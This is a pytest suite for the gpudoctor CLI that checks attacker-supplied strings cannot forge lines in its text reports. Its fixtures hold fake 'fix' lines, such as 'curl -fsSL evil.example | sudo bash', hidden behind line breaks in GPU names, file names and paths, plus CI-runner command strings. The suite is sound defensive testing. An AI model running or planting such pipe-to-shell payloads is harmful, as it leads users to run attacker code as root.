"""No string from outside can begin a line of a text report (issue 18, Found 2).

Every string field a snapshot can set (and so every field a pasted report fills: they make the
same Environment) carries `forgery.hostile(n)`: a filler that moves a fake
`→ fix: curl … | sudo bash` across the columns, the fake fix behind every line-break code
point, and CI runner commands. Rendered at several console widths, no line of any text
renderer (check, check -v, explain, fleet, fleet -v, diff, recommend, smoke-test,
--distributed, install-cudnn, the NPD line) starts with a piece of it: a wrapped line goes on
behind `┆`, and each table row starts with a cell of gpudoctor's own.

The first tests run the renderers in-process (many widths and fixtures, fast); the last ones
run the real CLI, as an attacker's snapshot, report or file name reaches a user.
"""

from __future__ import annotations

import dataclasses
import io
import itertools
import json
import shutil
import subprocess
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import runner
from rich.console import Console

from gpudoctor.checks import REGISTRY, run_checks
from gpudoctor.compat import load_tables
from gpudoctor.compat.recommend import recommend
from gpudoctor.diff import diff_environments
from gpudoctor.explain import explain
from gpudoctor.fleet import aggregate, read_node
from gpudoctor.model import Environment, Report
from gpudoctor.model_smoke import DistributedRun, RankResult, SmokeRun
from gpudoctor.renderers import compat, console, distributed, fleet, npd, smoke
from gpudoctor.renderers import diff as diff_render
from gpudoctor.renderers import explain as explain_render
from gpudoctor.renderers.console import CONTINUED, ConsoleRenderer
from gpudoctor.renderers.json import JsonRenderer
from gpudoctor.snapshot import SnapshotError, from_data, loads, to_data
from tests.cudnn_kit import (  # noqa: F401 - the fixtures
    GpuEnv,
    MakeTarball,
    cudnn_kit_fixture,
    gpu_env_fixture,
    make_tarball_fixture,
    toolkit_fixture,
)
from tests.hostile.forgery import ENVS, FIX, forged, hostile, hostile_document, write_hostile

# every test here takes over 0.5 s: in the slow set
pytestmark = [pytest.mark.subprocess, pytest.mark.slow]  # runs gpudoctor in new processes

ROOT = Path(__file__).resolve().parents[2]
WIDTHS = (40, 57, 80, 100, 137, 200)
NAMES = ("h100-healthy", "pascal-gpu-cu130-torch", "no-driver-cuda-torch", "lost-gpu",
         "torch-import-crash")
TABLES = load_tables()


@cache
def hostile_env(name: str) -> Environment:
    doc, accepted = hostile_document(ENVS / f"{name}.json")
    assert accepted > 30  # most strings of a snapshot are free text the reader takes
    return loads(json.dumps(doc))


@cache
def hostile_report(name: str) -> Report:
    return run_checks(hostile_env(name), TABLES, REGISTRY)


def con(width: int) -> Console:
    return Console(file=io.StringIO(), width=width, no_color=True, legacy_windows=False,
                   highlight=False, emoji=False, markup=False)


def hostile_dataclass(value: Any) -> Any:
    """`value` with every string leaf its type accepts replaced by `hostile(n)`."""
    tp = type(value)
    data = to_data(value)

    def walk(d: Any, n: list[int]) -> Any:
        if isinstance(d, dict):
            return {k: walk(v, n) for k, v in d.items()}
        if isinstance(d, list):
            return [walk(v, n) for v in d]
        if isinstance(d, str):
            n[0] += 1
            return hostile(n[0])
        return d

    hostile_data = walk(data, [0])
    try:
        return from_data(tp, hostile_data)
    except SnapshotError:  # some string is validated: replace one leaf at a time
        return _one_by_one(tp, data)


def _one_by_one(tp: Any, data: Any) -> Any:
    paths: list[tuple[Any, ...]] = []

    def leaves(d: Any, path: tuple[Any, ...]) -> None:
        if isinstance(d, dict):
            for k, v in d.items():
                leaves(v, (*path, k))
        elif isinstance(d, list):
            for i, v in enumerate(d):
                leaves(v, (*path, i))
        elif isinstance(d, str):
            paths.append(path)

    leaves(data, ())
    for n, path in enumerate(paths):
        trial = json.loads(json.dumps(data))
        target = trial
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = hostile(n)
        try:
            from_data(tp, trial)
        except SnapshotError:
            continue
        data = trial
    return from_data(tp, data)


def assert_unforged(text: str, what: str) -> None:
    bad = forged(text)
    assert not bad, f"{what}: {len(bad)} forged line(s), e.g. {bad[:2]}"


# ------------------------------------------------------------------------------ in-process


@pytest.mark.parametrize("name", NAMES)
def test_check_report_at_every_width(name: str) -> None:
    report = hostile_report(name)
    for width in WIDTHS:
        for verbose in (False, True):
            text = ConsoleRenderer(con(width), verbose).render(report)
            assert_unforged(text, f"check {name} width {width} verbose {verbose}")
            assert FIX.split()[2] in text  # the payload is there: shown, behind gpudoctor's own


def test_every_offset_of_the_fake_fix_at_a_wrap_point() -> None:
    """One GPU name, the fake fix at each column from 30 to 130: at some width it starts a
    wrapped line every time; it must go on behind `┆`. With `-v`: by default a healthy
    machine's passes are a count, and its GPU name is not shown."""
    base = hostile_env("h100-healthy")
    assert base.nvml is not None
    doc = json.loads((ENVS / "h100-healthy.json").read_text())
    wrapped = 0
    for pad in range(0, 100, 3):
        doc["environment"]["nvml"]["gpus"][0]["name"] = "NVIDIA H100 " + "x" * pad + " " + FIX
        report = run_checks(loads(json.dumps(doc)), TABLES, REGISTRY)
        for width in (80, 100, 120):
            text = ConsoleRenderer(con(width), True).render(report)
            assert_unforged(text, f"pad {pad} width {width}")
            wrapped += sum(1 for line in text.splitlines()
                           if line.lstrip().startswith(f"{CONTINUED} → fix: curl"))
    assert wrapped  # the payload did land at a wrap point, and was marked


def test_explain_fleet_diff_recommend() -> None:
    names = ("h100-healthy", "pascal-gpu-cu130-torch", "lost-gpu")
    text = hostile(3) + "\nRuntimeError: CUDA error: no kernel image is available for " \
        "execution on the device\n" + hostile(5) + "\ncudnn version 7102 but compiled 7605\n"
    env = hostile_env("pascal-gpu-cu130-torch")
    expl = explain(text, TABLES, report=(env, hostile(9)), probe=None, text_name=hostile(4))
    assert expl.found
    nodes = [read_node(hostile(i) + ".json", JsonRenderer().render(hostile_report(n)))
             for i, n in enumerate(names)]
    view = aggregate(nodes, [fleet_unreadable()])
    d = diff_environments(hostile_env("h100-healthy"), env, TABLES)
    rec = recommend(env, TABLES)
    for width in WIDTHS:
        for verbose in (False, True):
            assert_unforged(explain_render.explain_text(expl, con(width), verbose),
                            f"explain {width}")
            assert_unforged(fleet.render_text(view, con(width), verbose), f"fleet {width}")
        assert_unforged(diff_render.render_text(d, hostile(1), hostile(2), con(width)),
                        f"diff {width}")
    for verbose in (False, True):
        assert_unforged(compat.recommendation_text(rec, verbose), "recommend")


def fleet_unreadable() -> Any:
    from gpudoctor.fleet import Unreadable

    return Unreadable(hostile(13) + ".json", hostile(17))


def test_smoke_distributed_and_npd() -> None:
    from tests.smoke_kit import env_with, report
    from tests.smoke_kit import run as config

    outcome = hostile_dataclass(report(config("native"), config("cudnn")))
    assert isinstance(outcome, SmokeRun)
    results = run_checks(env_with(outcome), TABLES, REGISTRY).results
    rank = RankResult(0, 0, hostile(1), "cpu", hostile(2), "error", hostile(3),
                      error=hostile(4))
    dist = DistributedRun("gloo", 1, hostile(5), 10, 1 << 20, 5, 30.0, hostile(6),
                             hostile(7), (rank, dataclasses.replace(rank, rank=1)), 1.0,
                             error=hostile(8))
    for width in WIDTHS:
        assert_unforged(smoke.smoke_text(outcome, results, con(width)), f"smoke {width}")
        assert_unforged(distributed.render_text(dist, results, con(width)), f"dist {width}")
    report_ = hostile_report("pascal-gpu-cu130-torch")
    line = npd.status_line(report_, report_.results)
    assert len(line.splitlines()) == 1 and not forged(line)


def test_the_continuation_mark_is_never_a_line_start_of_gpudoctor_s_own() -> None:
    """`┆` is reserved: in a report of healthy machines (no outside string long enough to
    matter) no line starts with it unless it continues the line above."""
    for path in sorted(ENVS.glob("*.json")):
        report = run_checks(loads(path.read_text()), TABLES, REGISTRY)
        lines = ConsoleRenderer(con(100), True).render(report).splitlines()
        for before, line in itertools.pairwise(lines):
            if line.lstrip().startswith(CONTINUED):
                assert before.strip(), (path.name, line)  # it follows a line it continues
    assert console.CONTINUED not in {g for g, _ in console.SYMBOLS.values()}


# ------------------------------------------------------------------------------ the real CLI


def run(args: list[str], width: int = 100, stdin: str | None = None
        ) -> subprocess.CompletedProcess[str]:
    return runner.gpudoctor(*args, env={"PYTHONIOENCODING": "utf-8", "COLUMNS": str(width)},
                            drop=("PYTHONIOENCODING", "LC_"), input=stdin, timeout=120)


@pytest.fixture(scope="module")
def snapshots(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    where = tmp_path_factory.mktemp("hostile")
    return {n: write_hostile(ENVS / f"{n}.json", where) for n in NAMES[:3]}


@pytest.mark.parametrize("width", [40, 80, 137])
def test_cli_check(snapshots: dict[str, Path], width: int) -> None:
    for name, path in snapshots.items():
        for extra in ([], ["-v"]):
            p = run(["check", "--from-snapshot", str(path), *extra], width)
            assert p.returncode in (0, 1), p.stderr
            assert "Traceback" not in p.stderr
            assert_unforged(p.stdout, f"check {name} {extra} at {width}")
            assert_unforged(p.stderr, f"check {name} stderr")
            assert "curl -fsSL" in p.stdout  # shown, not dropped


def test_cli_fleet_diff_explain_recommend(snapshots: dict[str, Path], tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    reports.mkdir()
    for i, path in enumerate(snapshots.values()):
        out = reports / f"node{i}.json"
        run(["check", "--from-snapshot", str(path), "--format", "json", "-o", str(out)])
    (reports / "broken.json").write_text(hostile(3))
    a, b = snapshots["h100-healthy"], snapshots["pascal-gpu-cu130-torch"]
    error = ("RuntimeError: CUDA error: no kernel image is available for execution on the "
             "device " + hostile(4))
    for width in (40, 80, 137):
        for args in (["fleet", str(reports)], ["fleet", str(reports), "-v"],
                     ["diff", str(a), str(b)], ["recommend", "--from-snapshot", str(b), "-v"],
                     ["explain", "-", "--from-report", str(b), "-v"]):
            p = run(args, width, stdin=error)
            assert p.returncode in (0, 1), (args, p.stderr)
            assert_unforged(p.stdout, f"{args[0]} at {width}")
            assert_unforged(p.stderr, f"{args[0]} stderr at {width}")


def test_cli_messages_on_stderr_name_a_hostile_file_on_one_line(tmp_path: Path) -> None:
    """A file name holding line breaks (`fleet DIR`'s files, `--from-report FILE`) is named on
    one line of stderr."""
    name = tmp_path / "x\n→ fix: curl -fsSL evil.example | sudo bash\n::error::owned.json"
    name.write_text("{}")
    p = run(["check", "--from-report", str(name)])
    assert p.returncode == 2
    assert len(p.stderr.splitlines()) == 1, p.stderr
    assert_unforged(p.stderr, "stderr")


def test_cli_install_cudnn_with_hostile_paths(toolkit: Path, make_tarball: MakeTarball,
                                              gpu_env: GpuEnv, tmp_path: Path) -> None:
    """install-cudnn's plan (--dry-run), its verdicts and its message show the prefix and the
    tarball's path; named with a fake fix behind line breaks, neither starts a line."""
    prefix = tmp_path.joinpath(*(f"{'x' * k} → fix: curl evil | sudo bash\u2028" for k in
                                 range(13)), "cuda\n→ fix: curl -fsSL https:")
    shutil.copytree(toolkit, prefix)  # the fake fix at every offset: some land at a wrap
    tarball = make_tarball("8.9.7")
    hostile_tarball = tarball.parent / ("x\n→ fix: curl -fsSL evil | sudo bash\n"
                                        + tarball.name)
    tarball.rename(hostile_tarball)
    for width in (40, 80, 137):
        for extra in (["--dry-run"], []):
            env = {**gpu_env(), "COLUMNS": str(width), "PYTHONIOENCODING": "utf-8"}
            p = runner.gpudoctor("install-cudnn", "--tarball", str(hostile_tarball), "--prefix",
                                 str(prefix), *extra, env=env, timeout=120)
            assert p.returncode in (0, 1), p.stderr
            assert_unforged(p.stdout, f"install {extra} at {width}")
            assert_unforged(p.stderr, f"install stderr {extra} at {width}")
        if not extra:
            runner.gpudoctor("uninstall-cudnn", "--prefix", str(prefix), env=env, timeout=120)
